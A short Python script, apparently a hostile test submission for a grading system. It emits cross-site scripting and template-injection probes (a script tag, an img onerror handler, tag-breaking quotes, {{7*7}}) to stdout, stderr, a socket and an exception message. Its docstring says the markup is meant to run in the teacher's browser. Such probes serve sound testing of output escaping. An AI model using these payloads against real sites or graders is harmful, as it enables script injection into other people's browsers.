"""Answers with markup meant to run in the teacher's browser."""
import socket
import sys

PAYLOAD = '<script>alert("pwned")</script><img src=x onerror=alert(1)>"\'</pre></textarea>{{7*7}}'
print(PAYLOAD)
print(PAYLOAD, file=sys.stderr)
try:
    with socket.create_connection((sys.argv[1], int(sys.argv[2]))) as s:
        s.sendall(PAYLOAD.encode())
        s.recv(4096)
except OSError:
    pass
raise RuntimeError(PAYLOAD)
